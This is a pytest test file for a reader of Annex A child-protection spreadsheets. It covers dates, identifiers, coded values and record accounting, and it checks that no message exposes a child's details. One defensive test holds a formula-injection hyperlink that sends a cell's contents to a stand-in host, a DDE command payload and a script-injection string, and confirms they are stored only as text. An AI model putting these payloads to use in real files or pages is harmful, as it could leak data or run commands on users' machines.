"""Every record is kept or set aside with a reason; nothing is made up; no child's details are told."""

from __future__ import annotations

import datetime as dt

import pytest

from goldenthread.sources.annex_a import read
from goldenthread.sources.annex_a.extract_date import add_months, of_the_events
from goldenthread.sources.problems import Refused


def rows(extract, table, *columns):
    found = extract.tables[table]
    places = [found.columns.index(column) for column in columns]
    return [tuple(row[place] for place in places) for row in found.rows]


def one(extract, table, column):
    ((value,),) = rows(extract, table, column)
    return value


def told(extract, rule):
    return [issue for issue in extract.issues if issue.rule == rule]


def count(extract, number):
    found = extract.counts[number - 1]
    assert found.read == found.kept + found.set_aside
    return found[1:]


# Dates


def test_an_impossible_date_sets_its_row_aside_and_says_where(book, as_at, record):
    extract = read(book({3: [record(3), record(3, child_id="1009", referral_date="31/02/2024")]}), as_at)
    (aside,) = extract.set_aside
    assert aside.message == (
        "annex_a.xlsx > List 3 > row 3 > Date of referral: 31/02/2024 is not a date. "
        "Correct it in the case system and reload."
    )
    assert count(extract, 3) == (2, 1, 1)


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("03/04/2024", dt.date(2024, 4, 3)),
        ("3.4.2024", dt.date(2024, 4, 3)),
        ("03-04-2024", dt.date(2024, 4, 3)),
        ("2024-04-03", dt.date(2024, 4, 3)),
        ("2024-04-03T10:15:00", dt.date(2024, 4, 3)),
        ("3 April 2024", dt.date(2024, 4, 3)),
        ("03-Apr-2024", dt.date(2024, 4, 3)),
        ("Wednesday 3rd April 2024", dt.date(2024, 4, 3)),
        ("29/02/2024", dt.date(2024, 2, 29)),
        ("31/03/2024 01:30", dt.date(2024, 3, 31)),
        (dt.datetime.combine(dt.date(2024, 3, 31), dt.time(1, 30)), dt.date(2024, 3, 31)),
        (45366, dt.date(2024, 3, 15)),
        ("\u00a003/04/2024 ", dt.date(2024, 4, 3)),
    ],
)
def test_dates_are_read_day_first_whatever_their_form(book, record, written, meant):
    extract = read(book({1: [record(1, contact_date=written)]}), dt.date(2024, 6, 30))
    assert one(extract, "contacts", "contact_date") == meant


def test_plain_numbers_in_a_date_column_are_counted_in_a_notice(book, as_at, record):
    extract = read(book({1: [record(1, contact_date=45300 + n, child_id=str(n)) for n in range(3)]}), as_at)
    (notice,) = told(extract, "serial_date")
    assert notice.count == 3
    assert "Date of Contact: 3 cells were plain numbers" in notice.message


@pytest.mark.parametrize("written", ["2011", 2011, "03/2011", "Mar 2011", "03/05/09", "soon", "May be 8 Jan 2000"])
def test_part_of_a_birth_date_is_not_completed_and_the_child_is_still_counted(book, as_at, record, written):
    extract = read(book({1: [record(1, date_of_birth=written)]}), as_at)
    (person,) = [row for row in rows(extract, "people", "person_id", "date_of_birth") if row[0] == "1001"]
    assert person == ("1001", None)
    (issue,) = told(extract, "bad_date")
    assert (issue.sheet, issue.row, issue.column) == ("List 1", 2, "Date of Birth")
    assert "counted with age not known" in issue.message
    assert str(written) not in issue.message.replace("annex_a.xlsx", "")


def test_a_two_digit_year_asks_for_four(book, as_at, record):
    extract = read(book({8: [record(8, last_visit="03/05/23")]}), as_at)
    assert "Give four digits" in told(extract, "bad_date")[0].message
    assert count(extract, 8) == (1, 1, 0)
    assert extract.tables["care_visits"].rows == []


def test_an_opening_date_after_the_extract_date_sets_the_row_aside(book, as_at, record):
    extract = read(book({3: [record(3), record(3, child_id="7", referral_date=dt.date(2026, 3, 31))]}), as_at)
    (aside,) = extract.set_aside
    assert (aside.rule, aside.sheet, aside.row, aside.column) == ("future_date", "List 3", 3, "Date of referral")
    assert "31/03/2024" in aside.message


def test_the_extract_date_itself_is_not_the_future(book, as_at, record):
    assert count(read(book({3: [record(3, referral_date=as_at)]}), as_at), 3) == (1, 1, 0)


def test_placeholder_dates_are_listed_and_not_used(book, as_at, record):
    extract = read(
        book(
            {
                1: [record(1, date_of_birth=dt.date(1900, 1, 1))],
                7: [record(7, end_date="31/12/9999", last_visit="01/01/1900")],
                3: [record(3), record(3, child_id="2", referral_date="01/01/1900")],
            }
        ),
        as_at,
    )
    assert one(extract, "protection_plans", "end_date") is None
    assert rows(extract, "protection_visits", "visit_date") == []
    assert count(extract, 3) == (2, 1, 1)
    assert {issue.column for issue in told(extract, "placeholder_date")} == {
        "Date of Birth",
        "Child Protection Plan End Date",
        "Date of the Last Statutory Visit",
        "Date of referral",
    }


def test_an_end_before_the_start_is_kept_and_listed(book, as_at, record):
    extract = read(book({7: [record(7, end_date=dt.date(2024, 1, 1))]}), as_at)
    assert count(extract, 7) == (1, 1, 0)
    (issue,) = told(extract, "date_order")
    assert "List 7 > row 2" in issue.message


@pytest.mark.parametrize("number", [1, 3, 6, 8])
def test_a_blank_opening_date_sets_the_row_aside(book, as_at, record, number):
    opens = {1: "contact_date", 3: "referral_date", 6: "start_date", 8: "start_date"}[number]
    extract = read(book({number: [record(number, **{opens: None})]}), as_at)
    assert count(extract, number) == (1, 0, 1)
    assert extract.set_aside[0].rule == "missing_date"


# The extract date


def test_the_extract_date_is_the_one_given_then_the_front_sheets_then_the_latest_event(book, as_at):
    front = {"Front Sheet": [["Annex A"], ["Extract date", dt.date(2024, 2, 29)]]}
    assert read(book(sheets=front), as_at).as_at_from == "given"
    extract = read(book(sheets=front))
    assert (extract.as_at, extract.as_at_from) == (dt.date(2024, 2, 29), "front sheet")
    extract = read(book())
    assert (extract.as_at, extract.as_at_from) == (dt.date(2024, 2, 1), "latest event")
    extract = read(book({number: [] for number in range(1, 12)}))
    assert (extract.as_at, extract.as_at_from) == (None, "none")


@pytest.mark.parametrize(
    "cells",
    [["As at 29/02/2024"], ["Data as at", "29 February 2024"], ["Report date: 2024-02-29"]],
)
def test_wordings_of_a_front_sheets_date(book, cells):
    assert read(book(sheets={"Front": [["Annex A"], cells]})).as_at == dt.date(2024, 2, 29)


def test_guidance_that_talks_of_dates_is_not_an_extract_date(book):
    talk = "The extract date is the day on which the authority runs the report for the inspection team, not the visit."
    assert read(book(sheets={"Guidance": [[talk, dt.date(2019, 8, 1)]]})).as_at_from == "latest event"


def test_a_slip_far_in_the_future_does_not_become_the_extract_date(book, record):
    many = [record(1, child_id=str(n), contact_date=dt.date(2024, 1, 1) + dt.timedelta(n % 60)) for n in range(60)]
    extract = read(book({1: [*many, record(1, contact_date=dt.date(2026, 1, 1))]}))
    assert extract.as_at == dt.date(2024, 2, 29)
    assert [row.rule for row in extract.set_aside] == ["future_date"]


def test_two_clusters_of_events_keep_the_later():
    assert of_the_events([dt.date(2023, 1, 1)] * 3 + [dt.date(2024, 1, 1)]) == dt.date(2024, 1, 1)


@pytest.mark.parametrize(
    ("day", "months", "expected"),
    [
        (dt.date(2024, 8, 31), -6, dt.date(2024, 2, 29)),
        (dt.date(2023, 8, 31), -6, dt.date(2023, 2, 28)),
        (dt.date(2024, 4, 1), -6, dt.date(2023, 10, 1)),
        (dt.date(2023, 12, 31), 2, dt.date(2024, 2, 29)),
        (dt.date(2024, 1, 15), -1, dt.date(2023, 12, 15)),
        (dt.date(2024, 11, 30), 1, dt.date(2024, 12, 30)),
    ],
)
def test_months_are_cut_to_the_length_of_the_month(day, months, expected):
    assert add_months(day, months) == expected


# Identifiers


@pytest.mark.parametrize("written", [12345, 12345.0, "12345", "12345.0", " 12345 ", "12345\u00a0", "\u200b12345"])
def test_one_identifier_whatever_excel_made_of_it(book, as_at, record, written):
    extract = read(book({1: [record(1, child_id=written)]}), as_at)
    assert one(extract, "contacts", "person_id") == "12345"


def test_trimmed_identifiers_are_counted_in_a_notice(book, as_at, record):
    extract = read(book({1: [record(1, child_id="12345 "), record(1, child_id="9\u00a0")]}), as_at)
    (notice,) = told(extract, "trimmed_id")
    assert (notice.count, notice.severity) == (2, "info")


def test_leading_zeros_make_two_children_and_the_pair_is_listed_by_row(book, as_at, record):
    extract = read(book({1: [record(1, child_id="000123")], 2: [record(2, child_id="123")]}), as_at)
    people = {person for (person,) in rows(extract, "people", "person_id")}
    assert {"000123", "123"} <= people
    (issue,) = told(extract, "leading_zeros")
    assert "List 1 row 2 and List 2 row 2" in issue.message
    assert "123" not in issue.message


def test_identifiers_that_trimming_made_equal_are_listed_by_row(book, as_at, record):
    same = {1: [record(1, child_id="12345"), record(1, child_id="12345\u00a0", source="e) 2A: Schools")]}
    (issue,) = told(read(book(same), as_at), "equal_when_trimmed")
    assert "List 1 row 2 and List 1 row 3" in issue.message
    assert "12345" not in issue.message


def test_one_spelling_with_a_space_everywhere_is_no_clash(book, as_at, record):
    same = {1: [record(1, child_id="12345 ")], 2: [record(2, child_id="12345 ")]}
    assert len(told(read(book(same), as_at), "trimmed_id")) == 2


@pytest.mark.parametrize("written", ["1.23E+15", 1.23e15, "1.2e16"])
def test_identifiers_that_lost_digits_are_refused(book, as_at, record, written):
    with pytest.raises(Refused) as refused:
        read(book({6: [record(6, child_id=written)]}), as_at)
    assert (
        "annex_a.xlsx > List 6 > column A (Child Unique ID): digits have been lost in row 2" in refused.value.lines[0]
    )


def test_a_blank_identifier_sets_the_row_aside(book, as_at, record):
    extract = read(book({6: [record(6), record(6, child_id=None)]}), as_at)
    (aside,) = extract.set_aside
    assert (aside.rule, aside.sheet, aside.row) == ("missing_key", "List 6", 3)
    assert count(extract, 6) == (2, 1, 1)


def test_a_merged_identifier_is_not_filled_down_and_the_range_is_named(book, as_at, record):
    path = book(
        {6: [record(6), record(6, child_id=None), record(6, child_id=None)]},
        after=lambda workbook, sheets: sheets[6].merge_range("A2:A4", "1003"),
    )
    extract = read(path, as_at)
    assert [row.row for row in extract.set_aside] == [3, 4]
    assert all("merged cells A2:A4. Unmerge them" in row.message for row in extract.set_aside)


@pytest.mark.parametrize("total", [{"child_id": "Total 421"}, {"gender": "Total", "age": 421}, {"child_id": "TOTAL"}])
def test_a_total_row_is_not_a_child(book, as_at, record, total):
    extract = read(book({1: [record(1), total]}), as_at)
    assert count(extract, 1) == (2, 1, 1)
    assert "looks like a total row" in extract.set_aside[0].message


def test_a_footnote_is_not_a_child(book, as_at, record):
    extract = read(book({9: [record(9), {"child_id": "Source: invented system"}]}), as_at)
    assert [row.rule for row in extract.set_aside] == ["not_a_record"]


def test_the_same_row_five_times_is_loaded_once(book, as_at, record):
    extract = read(book({7: [record(7)] * 5}), as_at)
    assert count(extract, 7) == (5, 1, 4)
    (issue,) = told(extract, "duplicate")
    assert "4 exact duplicates" in issue.message
    assert "rows 3, 4, 5 and 6" in issue.message


def test_a_list_with_headings_and_no_rows_is_zero_with_a_notice(book, as_at):
    extract = read(book({10: []}), as_at)
    assert count(extract, 10) == (0, 0, 0)
    assert [issue.message for issue in told(extract, "no_rows")] == ["List 10: no rows."]


# Values


@pytest.mark.parametrize(
    ("written", "sex", "gender"),
    [
        ("a) Male", "M", "M"),
        ("male", "M", "M"),
        ("M", "M", "M"),
        (1, "M", "M"),
        ("d) Neither", "U", "I"),
        ("c) Not stated/recorded (or unborn)", "U", "U"),
        (None, None, None),
    ],
)
def test_gender(book, as_at, record, written, sex, gender):
    extract = read(book({1: [record(1, gender=written)]}), as_at)
    (person,) = [row for row in rows(extract, "people", "person_id", "sex", "gender") if row[0] == "1001"]
    assert person[1:] == (sex, gender)


def test_an_unlisted_gender_is_kept_as_given_and_counted(book, as_at, record):
    extract = read(book({1: [record(1, gender="X")]}), as_at)
    assert "unknown code X (1); kept as given" in told(extract, "unknown_code")[0].message
    assert ("X",) in rows(extract, "people", "gender")


def test_an_unknown_code_is_kept_as_given_and_shown_with_its_count(book, as_at, record):
    extract = read(book({1: [record(1, ethnicity="ABCD", child_id=str(n)) for n in range(3)]}), as_at)
    assert ("ABCD",) in rows(extract, "people", "ethnicity")
    (issue,) = told(extract, "unknown_code")
    assert "unknown code ABCD (3); kept as given" in issue.message


def test_the_letter_s_alone_is_ambiguous_and_not_guessed(book, as_at, record):
    extract = read(book({1: [record(1, ethnicity="s)")]}), as_at)
    (issue,) = told(extract, "ambiguous_code")
    assert "it may mean REFU or NOBT (1)" in issue.message
    assert ("s)",) in rows(extract, "people", "ethnicity")


@pytest.mark.parametrize(
    ("written", "meant"),
    [("Y", True), ("yes", True), (True, True), (1, True), ("\u2713", True), ("N", False), (0, False), ("", None)],
)
def test_yes_and_no(book, as_at, record, written, meant):
    extract = read(book({3: [record(3, nfa=written)]}), as_at)
    assert one(extract, "referrals", "no_further_action") is meant


def test_yes_partly_is_not_yes(book, as_at, record):
    extract = read(book({3: [record(3, nfa="Yes - partly")]}), as_at)
    assert one(extract, "referrals", "no_further_action") is None
    assert told(extract, "unknown_code")[0].column == "Referral NFA?"
    assert ("referrals", "no_further_action", "Yes - partly") in [
        (o.table, o.column, o.original) for o in extract.originals
    ]


@pytest.mark.parametrize("written", ["three", "N/A"])
def test_words_in_a_number_column_are_not_known_and_not_zero(book, as_at, record, written):
    extract = read(book({3: [record(3, referrals_12m=written)]}), as_at)
    assert told(extract, "bad_number")[0].column == "Number of Referrals in Last 12 Months"
    assert ("1003", None) in rows(extract, "annex_a_counts", "person_id", "referrals_12m")


def test_excel_errors_are_blank(book, as_at, record):
    path = book(
        {3: [record(3)]},
        after=lambda workbook, sheets: sheets[3].write_formula("J2", "=NA()", None, "#N/A"),
    )
    assert one(read(path, as_at), "referrals", "team_id") is None


def test_an_age_that_disagrees_with_the_birth_date_is_listed(book, as_at, record):
    extract = read(book({1: [record(1, age=14, date_of_birth=dt.date(2014, 5, 5))]}), as_at)
    assert "List 1 > row 2" in told(extract, "age_differs")[0].message


@pytest.mark.parametrize("age", [7.83, 7])
def test_a_decimal_age_is_cut_down_and_agrees(book, as_at, record, age):
    extract = read(book({1: [record(1, age=age, date_of_birth=dt.date(2016, 6, 1))]}), as_at)
    assert told(extract, "age_differs") == []


def test_an_unborn_child_has_an_expected_date(book, as_at, record):
    after = dt.date(2024, 7, 1)
    extract = read(
        book(
            {
                1: [
                    record(1, child_id="1", date_of_birth=after),
                    record(1, child_id="2", age=-1, date_of_birth=dt.date(2024, 3, 1)),
                    record(1, child_id="3", age=-1, date_of_birth=None),
                ]
            }
        ),
        as_at,
    )
    people = {
        row[0]: row[1:] for row in rows(extract, "people", "person_id", "date_of_birth", "expected_date_of_birth")
    }
    assert people["1"] == (None, after)
    assert people["2"] == (None, dt.date(2024, 3, 1))
    assert people["3"] == (None, None)


def test_formulas_and_scripts_are_text(book, as_at, record):
    wicked = ['=HYPERLINK("http://x/?"&A2,"click")', "+cmd|' /C calc'!A0", "<script>alert(1)</script>"]
    extract = read(book({3: [record(3, child_id=str(n), worker=text) for n, text in enumerate(wicked)]}), as_at)
    assert [name for (name,) in rows(extract, "professionals", "name")] == wicked


# Across lists


def test_two_birth_dates_are_both_kept_and_the_stated_order_decides(book, as_at, record):
    other = dt.date(2011, 1, 2)
    extract = read(book({6: [record(6, child_id="1001", date_of_birth=other)]}), as_at)
    assert ("1001", other) in rows(extract, "people", "person_id", "date_of_birth")
    (issue,) = told(extract, "two_birth_dates")
    assert (issue.sheet, issue.row) == ("List 1", 2)
    assert any(o.table == "people" and o.original == "04/05/2012 in List 1, row 2" for o in extract.originals)


def test_a_plan_without_list_6_is_listed_and_nothing_changed(book, as_at, record):
    extract = read(book({7: [record(7, child_id="5555")]}), as_at)
    assert [issue.sheet for issue in told(extract, "not_in_list_6")] == ["List 7", "List 8"]
    assert one(extract, "protection_plans", "person_id") == "5555"


def test_a_plan_that_has_ended_is_looked_for_in_list_6_too(book, as_at, record):
    extract = read(book({7: [record(7, child_id="5555", end_date=as_at)]}), as_at)
    assert "List 7" in [issue.sheet for issue in told(extract, "not_in_list_6")]


def test_no_message_holds_a_childs_details(book, as_at, record):
    """Faults of every kind around planted names, identifiers and birth dates."""
    name, identity, born = "Zzmarkername", "987654321", dt.date(2009, 9, 9)
    planted = {
        1: [
            record(1, child_id=identity, date_of_birth=born, age=3, ethnicity=name, source=name),
            record(1, child_id=identity + " ", date_of_birth="31/02/2009", contact_date=name),
            record(1, child_id="0" + identity, gender=name),
            record(1, child_id=None, ethnicity=name),
            record(1, child_id=f"Total {name}"),
        ],
        3: [record(3, child_id=identity, worker=name, team=name, referrals_12m=name, nfa=name)] * 2,
        6: [record(6, child_id="4", date_of_birth=born, start_date=dt.date(2025, 1, 1), primary_need=name)],
        7: [record(7, child_id=identity, end_date=dt.date(2023, 1, 1), last_visit=name, date_of_birth="09/09/09")],
        8: [record(8, child_id=identity, date_of_birth=dt.date(2010, 8, 8), postcode=name, placement_type=name)],
    }
    extract = read(book(planted), as_at)
    said = [issue.message for issue in extract.issues] + [row.message for row in extract.set_aside]
    assert len(said) > 15
    for message in said:
        for secret in (name.lower(), identity, "09/09/2009", "2009-09-09", "31/02/2009", "09/09/09", "08/08/2010"):
            assert secret not in message.lower()


@pytest.mark.parametrize(
    "sample",
    [
        "liia-tools/Annex_A.xlsx",
        "sfdata-annexa-clean/2015-01-sample.xlsx",
        "sfdata-annexa-clean/example-B-2004.xlsx",
    ],
)
def test_published_samples_are_read_and_every_record_accounted_for(shared, sample):
    extract = read(shared / "samples" / "annex_a" / sample)
    assert len(extract.counts) == 11
    assert all(found.read == found.kept + found.set_aside for found in extract.counts)
    assert sum(found.read for found in extract.counts) > 0
    assert len(extract.set_aside) == sum(found.set_aside for found in extract.counts)
